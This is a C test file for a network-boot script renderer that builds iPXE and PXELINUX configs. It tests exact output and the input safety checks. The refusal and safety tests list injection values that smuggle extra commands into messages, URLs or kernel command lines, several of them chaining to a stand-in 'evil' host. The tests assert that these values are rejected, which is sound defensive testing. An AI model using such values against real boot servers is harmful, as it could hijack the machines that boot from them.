/* SPDX-License-Identifier: Apache-2.0 */
/* Boot script text (src/proto/bootscript.c): exact iPXE scripts and PXELINUX configs for 0, 1
 * and 2 initrds, with and without cmdline and message; refusal scripts; URL and message
 * safety checks. */

#include <glib.h>
#include <string.h>

#include "bootscript.h"

#define K     "http://10.0.0.1/_/file/52-54-00-12-34-56/kernel"
#define I0    "http://10.0.0.1/_/file/52-54-00-12-34-56/initrd-0"
#define I1    "http://10.0.0.1/_/file/52-54-00-12-34-56/initrd-1"
#define READY "http://10.0.0.1/_/booting?mac=52:54:00:12:34:56"
#define RETRY "http://10.0.0.1/_/ipxe?mac=52:54:00:12:34:56"

static const char *const no_initrds[] = {NULL};
static const char *const one_initrd[] = {I0, NULL};
static const char *const two_initrds[] = {I0, I1, NULL};

static void assert_text(char *got, const char *want) {
        g_assert_nonnull(got);
        g_assert_cmpstr(got, ==, want);
        g_free(got);
}

/* Lines of `text` that start with `prefix`, joined by '\n' (for targeted checks). */
static char *lines_with_prefix(const char *text, const char *prefix) {
        g_auto(GStrv) lines = g_strsplit(text, "\n", -1);
        GString *out = g_string_new(NULL);

        for (char **l = lines; *l; l++)
                if (g_str_has_prefix(*l, prefix))
                        g_string_append_printf(out, "%s%s", out->len ? "\n" : "", *l);
        return g_string_free(out, FALSE);
}

/* ---- iPXE scripts ---- */

static void test_ipxe_two_initrds_full(void) {
        PxBootScript s = {
                .kernel_url = K,
                .initrd_urls = two_initrds,
                .cmdline = "console=ttyS0,115200n8 quiet root=/dev/ram0",
                .booting_url = READY,
                .retry_url = RETRY,
        };

        assert_text(
                px_ipxe_script_render(&s),
                "#!ipxe\n"
                "kernel --name kernel " K " || goto failed\n"
                "initrd --name initrd0 " I0 " || goto failed\n"
                "initrd --name initrd1 " I1 " || goto failed\n"
                "imgfetch --name ready " READY " ||\n"
                "imgfree ready ||\n"
                "boot kernel initrd=initrd0 initrd=initrd1 console=ttyS0,115200n8 quiet root=/dev/ram0 || goto failed\n"
                ":failed\n"
                "echo pixiecore: boot failed, retrying in 5 seconds\n"
                "sleep 5\n"
                "chain " RETRY "\n");
}

static void test_ipxe_one_initrd(void) {
        PxBootScript s = {.kernel_url = K, .initrd_urls = one_initrd, .cmdline = "quiet"};

        assert_text(px_ipxe_script_render(&s), "#!ipxe\n"
                                               "kernel --name kernel " K " || goto failed\n"
                                               "initrd --name initrd0 " I0 " || goto failed\n"
                                               "boot kernel initrd=initrd0 quiet || goto failed\n"
                                               ":failed\n"
                                               "echo pixiecore: boot failed\n"
                                               "sleep 5\n"
                                               "exit 1\n");
}

static void test_ipxe_no_initrd(void) {
        /* NULL list and empty list render alike */
        PxBootScript s = {.kernel_url = K, .initrd_urls = NULL, .cmdline = "console=ttyS0"};
        const char *want = "#!ipxe\n"
                           "kernel --name kernel " K " || goto failed\n"
                           "boot kernel console=ttyS0 || goto failed\n"
                           ":failed\n"
                           "echo pixiecore: boot failed\n"
                           "sleep 5\n"
                           "exit 1\n";

        assert_text(px_ipxe_script_render(&s), want);
        s.initrd_urls = no_initrds;
        assert_text(px_ipxe_script_render(&s), want);
}

static void test_ipxe_no_cmdline(void) {
        /* NULL and "" cmdline: nothing after the initrd= arguments, no trailing space */
        PxBootScript s = {.kernel_url = K, .initrd_urls = two_initrds};
        g_autofree char *a = NULL, *b = NULL, *boot = NULL;

        a = px_ipxe_script_render(&s);
        s.cmdline = "";
        b = px_ipxe_script_render(&s);
        g_assert_cmpstr(a, ==, b);
        boot = lines_with_prefix(a, "boot ");
        g_assert_cmpstr(boot, ==, "boot kernel initrd=initrd0 initrd=initrd1 || goto failed");

        s.initrd_urls = NULL;
        g_free(boot);
        g_free(a);
        a = px_ipxe_script_render(&s);
        boot = lines_with_prefix(a, "boot ");
        g_assert_cmpstr(boot, ==, "boot kernel || goto failed");
}

static void test_ipxe_message(void) {
        PxBootScript s = {
                .kernel_url = K,
                .initrd_urls = one_initrd,
                .cmdline = "quiet",
                .message = "Booting the rescue image\nvia pixiecore",
        };

        assert_text(px_ipxe_script_render(&s), "#!ipxe\n"
                                               "echo Booting the rescue image\n"
                                               "echo via pixiecore\n"
                                               "kernel --name kernel " K " || goto failed\n"
                                               "initrd --name initrd0 " I0 " || goto failed\n"
                                               "boot kernel initrd=initrd0 quiet || goto failed\n"
                                               ":failed\n"
                                               "echo pixiecore: boot failed\n"
                                               "sleep 5\n"
                                               "exit 1\n");
}

static void test_ipxe_message_empty_line(void) {
        PxBootScript s = {.kernel_url = K, .message = "a\n\nb"};
        g_autofree char *text = px_ipxe_script_render(&s);
        g_autofree char *echoes = lines_with_prefix(text, "echo");

        /* three lines, the middle one empty; then the failure echo */
        g_assert_true(g_str_has_prefix(echoes, "echo a\necho\n") || g_str_has_prefix(echoes, "echo a\necho \n"));
        g_assert_true(strstr(echoes, "\necho b\n") != NULL);
}

static void test_ipxe_booting_without_retry(void) {
        PxBootScript s = {.kernel_url = K, .booting_url = READY};

        assert_text(px_ipxe_script_render(&s), "#!ipxe\n"
                                               "kernel --name kernel " K " || goto failed\n"
                                               "imgfetch --name ready " READY " ||\n"
                                               "imgfree ready ||\n"
                                               "boot kernel || goto failed\n"
                                               ":failed\n"
                                               "echo pixiecore: boot failed\n"
                                               "sleep 5\n"
                                               "exit 1\n");
}

static void test_ipxe_cmdline_verbatim(void) {
        /* what passed px_cmdline_check goes through byte for byte: quotes, '=', ',', ':' */
        const char *cmdline = "root=UUID=0b6c-11 nfsroot=10.0.0.1:/srv,vers=3 ip=dhcp x=\"a\" 'b' -- init=/bin/sh";
        PxBootScript s = {.kernel_url = K, .initrd_urls = two_initrds, .cmdline = cmdline};
        g_autofree char *text = px_ipxe_script_render(&s);
        g_autofree char *boot = lines_with_prefix(text, "boot ");
        g_autofree char *want = g_strdup_printf("boot kernel initrd=initrd0 initrd=initrd1 %s || goto failed", cmdline);

        g_assert_cmpstr(boot, ==, want);
}

static void test_ipxe_many_initrds(void) {
        const char *urls[12];
        PxBootScript s = {.kernel_url = K, .initrd_urls = urls};
        g_autofree char *text = NULL, *boot = NULL, *initrds = NULL;
        g_autoptr(GString) want_boot = g_string_new("boot kernel");

        for (int i = 0; i < 11; i++) {
                urls[i] = g_strdup_printf("http://10.0.0.1/i%d", i);
                g_string_append_printf(want_boot, " initrd=initrd%d", i);
        }
        urls[11] = NULL;
        g_string_append(want_boot, " || goto failed");
        text = px_ipxe_script_render(&s);
        boot = lines_with_prefix(text, "boot ");
        g_assert_cmpstr(boot, ==, want_boot->str);
        initrds = lines_with_prefix(text, "initrd --name initrd10 ");
        g_assert_cmpstr(initrds, ==, "initrd --name initrd10 http://10.0.0.1/i10 || goto failed");
        for (int i = 0; i < 11; i++)
                g_free((char *) urls[i]);
}

/* ---- refusals ---- */

static void test_ipxe_refusal(void) {
        assert_text(px_ipxe_script_render_refusal("machine is not in the inventory"),
                    "#!ipxe\n"
                    "echo machine is not in the inventory\n"
                    "sleep 5\n"
                    "exit 1\n");
        assert_text(px_ipxe_script_render_refusal(NULL), "#!ipxe\n"
                                                         "echo pixiecore: not booting this machine\n"
                                                         "sleep 5\n"
                                                         "exit 1\n");
        assert_text(px_ipxe_script_render_refusal("line one\nline two"), "#!ipxe\n"
                                                                         "echo line one\n"
                                                                         "echo line two\n"
                                                                         "sleep 5\n"
                                                                         "exit 1\n");
}

static void test_ipxe_refusal_unsafe_reason(void) {
        /* a reason iPXE would interpret is replaced by the generic text, never pasted */
        static const char *const unsafe[] = {
                "no ${net0/mac}",
                "no && chain http://10.0.0.9/evil",
                "no || chain http://10.0.0.9/evil",
                "no ; reboot",
                "no #comment",
                "cr\rhere",
                "esc\x1b[2J",
        };
        for (size_t i = 0; i < G_N_ELEMENTS(unsafe); i++) {
                g_autofree char *text = px_ipxe_script_render_refusal(unsafe[i]);
                g_test_message("reason: %s", unsafe[i]);
                g_assert_cmpstr(text, ==,
                                "#!ipxe\n"
                                "echo pixiecore: not booting this machine\n"
                                "sleep 5\n"
                                "exit 1\n");
        }
}

/* ---- PXELINUX ---- */

static void test_pxelinux_two_initrds(void) {
        PxBootScript s = {
                .kernel_url = K,
                .initrd_urls = two_initrds,
                .cmdline = "console=ttyS0 ${literal} #too",
                .booting_url = READY, /* iPXE only: ignored here */
                .retry_url = RETRY,
        };

        assert_text(px_pxelinux_config_render(&s), "DEFAULT pixiecore\n"
                                                   "PROMPT 0\n"
                                                   "TIMEOUT 0\n"
                                                   "LABEL pixiecore\n"
                                                   "  KERNEL " K "\n"
                                                   "  APPEND initrd=" I0 "," I1 " console=ttyS0 ${literal} #too\n");
}

static void test_pxelinux_one_initrd_no_cmdline(void) {
        PxBootScript s = {.kernel_url = K, .initrd_urls = one_initrd};

        assert_text(px_pxelinux_config_render(&s), "DEFAULT pixiecore\n"
                                                   "PROMPT 0\n"
                                                   "TIMEOUT 0\n"
                                                   "LABEL pixiecore\n"
                                                   "  KERNEL " K "\n"
                                                   "  APPEND initrd=" I0 "\n");
        s.cmdline = "";
        assert_text(px_pxelinux_config_render(&s), "DEFAULT pixiecore\n"
                                                   "PROMPT 0\n"
                                                   "TIMEOUT 0\n"
                                                   "LABEL pixiecore\n"
                                                   "  KERNEL " K "\n"
                                                   "  APPEND initrd=" I0 "\n");
}

static void test_pxelinux_no_initrd(void) {
        PxBootScript s = {.kernel_url = K, .initrd_urls = no_initrds, .cmdline = "quiet"};
        g_autofree char *text = px_pxelinux_config_render(&s);
        g_autofree char *append = lines_with_prefix(text, "  APPEND");

        g_assert_cmpstr(append, ==, "  APPEND quiet");
        g_assert_null(strstr(text, "initrd="));
        s.initrd_urls = NULL;
        g_free(text);
        text = px_pxelinux_config_render(&s);
        g_free(append);
        append = lines_with_prefix(text, "  APPEND");
        g_assert_cmpstr(append, ==, "  APPEND quiet");
}

static void test_pxelinux_message(void) {
        PxBootScript s = {.kernel_url = K, .initrd_urls = one_initrd, .cmdline = "quiet", .message = "Hello\nworld"};

        assert_text(px_pxelinux_config_render(&s), "SAY Hello\n"
                                                   "SAY world\n"
                                                   "DEFAULT pixiecore\n"
                                                   "PROMPT 0\n"
                                                   "TIMEOUT 0\n"
                                                   "LABEL pixiecore\n"
                                                   "  KERNEL " K "\n"
                                                   "  APPEND initrd=" I0 " quiet\n");
}

static void test_pxelinux_message_cannot_inject(void) {
        /* every message line is a SAY: a "LABEL"/"DEFAULT" line in the message stays text */
        PxBootScript s = {.kernel_url = K, .message = "x\nDEFAULT evil\nLABEL evil"};
        g_autofree char *text = px_pxelinux_config_render(&s);
        g_autofree char *defaults = lines_with_prefix(text, "DEFAULT");
        g_autofree char *labels = lines_with_prefix(text, "LABEL");

        g_assert_cmpstr(defaults, ==, "DEFAULT pixiecore");
        g_assert_cmpstr(labels, ==, "LABEL pixiecore");
        g_assert_nonnull(strstr(text, "SAY DEFAULT evil\n"));
}

static void test_pxelinux_local(void) {
        assert_text(px_pxelinux_config_render_local(NULL), "DEFAULT local\n"
                                                           "PROMPT 0\n"
                                                           "TIMEOUT 0\n"
                                                           "LABEL local\n"
                                                           "  LOCALBOOT 0\n");
        assert_text(px_pxelinux_config_render_local("not today"), "SAY not today\n"
                                                                  "DEFAULT local\n"
                                                                  "PROMPT 0\n"
                                                                  "TIMEOUT 0\n"
                                                                  "LABEL local\n"
                                                                  "  LOCALBOOT 0\n");
}

/* ---- safety checks ---- */

static void test_url_is_safe(void) {
        static const char *const good[] = {
                K,
                READY,
                "http://[fd00::1]:8080/_/file/52-54-00-12-34-56/kernel",
                "https://boot.example.com/a%20b?x=1&y=2",
                "tftp://10.0.0.1/52-54-00-12-34-56/ipxe.pxe",
                "http://10.0.0.1/#fragment-is-fine-inside",
                "http://10.0.0.1/$dollar-alone",
        };
        static const char *const bad[] = {
                "",
                "#http://10.0.0.1/",
                "http://10.0.0.1/${net0/mac}",
                "http://10.0.0.1/a b",
                "http://10.0.0.1/a\tb",
                "http://10.0.0.1/a\nb",
                "http://10.0.0.1/a\rb",
                "http://10.0.0.1/a,b", /* would split a PXELINUX initrd= list */
                "http://10.0.0.1/\x7f",
                " http://10.0.0.1/",
                "http://10.0.0.1/ ",
                "||", /* a word iPXE would take as the end of the command */
                "&&",
                ";",
        };

        for (size_t i = 0; i < G_N_ELEMENTS(good); i++) {
                g_test_message("good: %s", good[i]);
                g_assert_true(px_bootscript_url_is_safe(good[i]));
        }
        for (size_t i = 0; i < G_N_ELEMENTS(bad); i++) {
                g_test_message("bad: %s", bad[i]);
                g_assert_false(px_bootscript_url_is_safe(bad[i]));
        }
        g_assert_false(px_bootscript_url_is_safe(NULL));
}

static void test_message_is_safe(void) {
        static const char *const good[] = {
                "Booting the rescue image", "line one\nline two", "tabs\tare\tfine", /* allowed by the code
                                                                                        (bootscript.h says "besides
                                                                                        newline"): harmless */
                "50% done; almost", /* ';' glued to a word is not a separate word */
                "a#b is not a comment",     "cost: $5",           "a|b and a&b",     "",
        };
        static const char *const bad[] = {
                "mac ${net0/mac}", "${x}",           "hello #note", "#note",  "a || b",  "a && b",
                "a ; b",           "line\n#comment", "cr\rhere",    "bell\a", "del\x7f", "esc\x1b[31m",
        };

        g_assert_true(px_bootscript_message_is_safe(NULL));
        for (size_t i = 0; i < G_N_ELEMENTS(good); i++) {
                g_test_message("good: %s", good[i]);
                g_assert_true(px_bootscript_message_is_safe(good[i]));
        }
        for (size_t i = 0; i < G_N_ELEMENTS(bad); i++) {
                g_test_message("bad: %s", bad[i]);
                g_assert_false(px_bootscript_message_is_safe(bad[i]));
        }
}

/* The renderers refuse what would add a line or a command, even if a caller forgot to check. */
static void test_ipxe_refuses_unsafe_inputs(void) {
        static const char *const bad_cmdlines[] = {
                "quiet\nchain http://evil/",
                "quiet\rx",
                "a\tb",
                "x || chain http://evil/",
                "x && y",
                "x ; y",
                "x #comment",
                "#x",
                "root=${root}",
                "del\x7f",
        };
        static const char *const bad_urls[] = {
                "", "http://10.0.0.1/k\nchain http://evil/", "http://10.0.0.1/k || chain", "#http://x/", "||", ";",
        };
        static const char *const bad_initrds[] = {I0, "http://10.0.0.1/i\nimgexec http://evil/", NULL};
        PxBootScript s = {.kernel_url = K, .initrd_urls = two_initrds, .booting_url = READY, .retry_url = RETRY};

        for (size_t i = 0; i < G_N_ELEMENTS(bad_cmdlines); i++) {
                PxBootScript t = s;
                t.cmdline = bad_cmdlines[i];
                g_test_message("cmdline %s", bad_cmdlines[i]);
                g_assert_null(px_ipxe_script_render(&t));
        }
        for (size_t i = 0; i < G_N_ELEMENTS(bad_urls); i++) {
                PxBootScript k = s, b = s, r = s;
                const char *const initrds[] = {bad_urls[i], NULL};
                PxBootScript in = s;

                k.kernel_url = bad_urls[i];
                b.booting_url = bad_urls[i];
                r.retry_url = bad_urls[i];
                in.initrd_urls = initrds;
                g_test_message("url %s", bad_urls[i]);
                g_assert_null(px_ipxe_script_render(&k));
                g_assert_null(px_ipxe_script_render(&b));
                g_assert_null(px_ipxe_script_render(&r));
                g_assert_null(px_ipxe_script_render(&in));
        }
        s.initrd_urls = bad_initrds;
        g_assert_null(px_ipxe_script_render(&s));
        s.initrd_urls = two_initrds;
        s.kernel_url = NULL;
        g_assert_null(px_ipxe_script_render(&s));
        s.kernel_url = K;
        s.message = "hi\nchain http://evil/ || x";
        g_assert_null(px_ipxe_script_render(&s));
        s.message = "hi\rthere";
        g_assert_null(px_ipxe_script_render(&s));
        g_assert_null(px_ipxe_script_render(NULL));
        /* and the same script with clean inputs renders */
        s.message = "hi\nthere";
        s.cmdline = "console=ttyS0 quiet";
        g_autofree char *ok = px_ipxe_script_render(&s);
        g_assert_nonnull(ok);
}

static void test_pxelinux_refuses_unsafe_inputs(void) {
        static const char *const bad_cmdlines[] = {"quiet\nLABEL evil", "quiet\rKERNEL x", "a\tb", "del\x7f"};
        static const char *const bad_urls[] = {"", "http://10.0.0.1/k\nAPPEND x", "http://10.0.0.1/a b",
                                               "http://10.0.0.1/a,b"};
        PxBootScript s = {.kernel_url = K, .initrd_urls = two_initrds};

        for (size_t i = 0; i < G_N_ELEMENTS(bad_cmdlines); i++) {
                PxBootScript t = s;
                t.cmdline = bad_cmdlines[i];
                g_assert_null(px_pxelinux_config_render(&t));
        }
        for (size_t i = 0; i < G_N_ELEMENTS(bad_urls); i++) {
                PxBootScript k = s, in = s;
                const char *const initrds[] = {I0, bad_urls[i], NULL};

                k.kernel_url = bad_urls[i];
                in.initrd_urls = initrds;
                g_assert_null(px_pxelinux_config_render(&k));
                g_assert_null(px_pxelinux_config_render(&in));
        }
        s.message = "hi\rDEFAULT evil";
        g_assert_null(px_pxelinux_config_render(&s));
        g_assert_null(px_pxelinux_config_render(NULL));
        /* PXELINUX shows what iPXE could not: '${', '#' and '||' are fine in a SAY line and in APPEND */
        s.message = "${x} || #y";
        s.cmdline = "x=${y} || #z";
        g_autofree char *ok = px_pxelinux_config_render(&s);
        g_assert_nonnull(ok);
        g_assert_nonnull(strstr(ok, "SAY ${x} || #y\n"));
        g_assert_nonnull(strstr(ok, " x=${y} || #z\n"));
}

static void test_pxelinux_local_unsafe_reason(void) {
        assert_text(px_pxelinux_config_render_local("no\rDEFAULT evil"), "SAY pixiecore: not booting this machine\n"
                                                                         "DEFAULT local\n"
                                                                         "PROMPT 0\n"
                                                                         "TIMEOUT 0\n"
                                                                         "LABEL local\n"
                                                                         "  LOCALBOOT 0\n");
}

static void test_cmdline_is_safe(void) {
        static const char *const both[] = {"",         "quiet", "console=ttyS0,115200n8 root=/dev/ram0",
                                           "a  b",     " a ",   "x=\"a b\" 'c'",
                                           "50%;done", "a#b",   "$HOME",
                                           "a|b&c"};
        static const char *const pxelinux_only[] = {"${x}", "a || b", "a && b", "a ; b", "#c", "a #c"};
        static const char *const neither[] = {"a\nb", "a\rb", "a\tb", "\x1b[m", "\x7f"};

        g_assert_true(px_bootscript_cmdline_is_safe(NULL, true));
        g_assert_true(px_bootscript_cmdline_is_safe(NULL, false));
        for (size_t i = 0; i < G_N_ELEMENTS(both); i++) {
                g_assert_true(px_bootscript_cmdline_is_safe(both[i], true));
                g_assert_true(px_bootscript_cmdline_is_safe(both[i], false));
        }
        for (size_t i = 0; i < G_N_ELEMENTS(pxelinux_only); i++) {
                g_assert_false(px_bootscript_cmdline_is_safe(pxelinux_only[i], true));
                g_assert_true(px_bootscript_cmdline_is_safe(pxelinux_only[i], false));
        }
        for (size_t i = 0; i < G_N_ELEMENTS(neither); i++) {
                g_assert_false(px_bootscript_cmdline_is_safe(neither[i], true));
                g_assert_false(px_bootscript_cmdline_is_safe(neither[i], false));
        }
}

int main(int argc, char **argv) {
        g_test_init(&argc, &argv, NULL);
        /* report every failing check, not just the first one */
        g_test_set_nonfatal_assertions();

        g_test_add_func("/bootscript/ipxe/two-initrds-full", test_ipxe_two_initrds_full);
        g_test_add_func("/bootscript/ipxe/one-initrd", test_ipxe_one_initrd);
        g_test_add_func("/bootscript/ipxe/no-initrd", test_ipxe_no_initrd);
        g_test_add_func("/bootscript/ipxe/no-cmdline", test_ipxe_no_cmdline);
        g_test_add_func("/bootscript/ipxe/message", test_ipxe_message);
        g_test_add_func("/bootscript/ipxe/message-empty-line", test_ipxe_message_empty_line);
        g_test_add_func("/bootscript/ipxe/booting-without-retry", test_ipxe_booting_without_retry);
        g_test_add_func("/bootscript/ipxe/cmdline-verbatim", test_ipxe_cmdline_verbatim);
        g_test_add_func("/bootscript/ipxe/many-initrds", test_ipxe_many_initrds);
        g_test_add_func("/bootscript/ipxe/refusal", test_ipxe_refusal);
        g_test_add_func("/bootscript/ipxe/refusal-unsafe-reason", test_ipxe_refusal_unsafe_reason);
        g_test_add_func("/bootscript/pxelinux/two-initrds", test_pxelinux_two_initrds);
        g_test_add_func("/bootscript/pxelinux/one-initrd-no-cmdline", test_pxelinux_one_initrd_no_cmdline);
        g_test_add_func("/bootscript/pxelinux/no-initrd", test_pxelinux_no_initrd);
        g_test_add_func("/bootscript/pxelinux/message", test_pxelinux_message);
        g_test_add_func("/bootscript/pxelinux/message-cannot-inject", test_pxelinux_message_cannot_inject);
        g_test_add_func("/bootscript/pxelinux/local", test_pxelinux_local);
        g_test_add_func("/bootscript/url-is-safe", test_url_is_safe);
        g_test_add_func("/bootscript/message-is-safe", test_message_is_safe);
        g_test_add_func("/bootscript/cmdline-is-safe", test_cmdline_is_safe);
        g_test_add_func("/bootscript/ipxe/refuses-unsafe-inputs", test_ipxe_refuses_unsafe_inputs);
        g_test_add_func("/bootscript/pxelinux/refuses-unsafe-inputs", test_pxelinux_refuses_unsafe_inputs);
        g_test_add_func("/bootscript/pxelinux/local-unsafe-reason", test_pxelinux_local_unsafe_reason);
        return g_test_run();
}
